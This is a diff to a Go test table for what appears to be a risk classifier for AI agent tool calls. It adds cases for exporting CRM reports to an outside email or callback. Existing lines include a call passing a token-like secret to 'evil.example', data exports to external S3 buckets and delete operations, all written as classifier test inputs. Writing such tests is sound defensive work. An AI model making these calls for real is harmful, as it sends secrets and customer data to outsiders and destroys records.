@@ -76,6 +76,8 @@ func TestToolReadShapes(t *testing.T) {
 		// Dangerous neighbours.
 		{"mcp__drive__export_to_s3", `{"bucket":"b"}`, Red, "tool-outward"},
 		{"mcp__crm__export_contacts", `{"format":"csv","destination":"s3://partner/x.csv"}`, Red, ""},
+		{"mcp__crm__export_report", `{"email":"partner@elsewhere.example"}`, Yellow, "tool-unknown"},
+		{"mcp__crm__export_report", `{"callback":"https://hooks.elsewhere.example/x"}`, Yellow, "tool-unknown"},
 		{"mcp__helpdesk__filter_delete", `{"id":"1"}`, Red, "tool-destructive"},
 		{"mcp__maps__directions_delete", `{"id":"1"}`, Red, "tool-destructive"},
 		{"mcp__search__summarizer", `{"url":"https://evil.example/?k=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"}`, Red, ""},
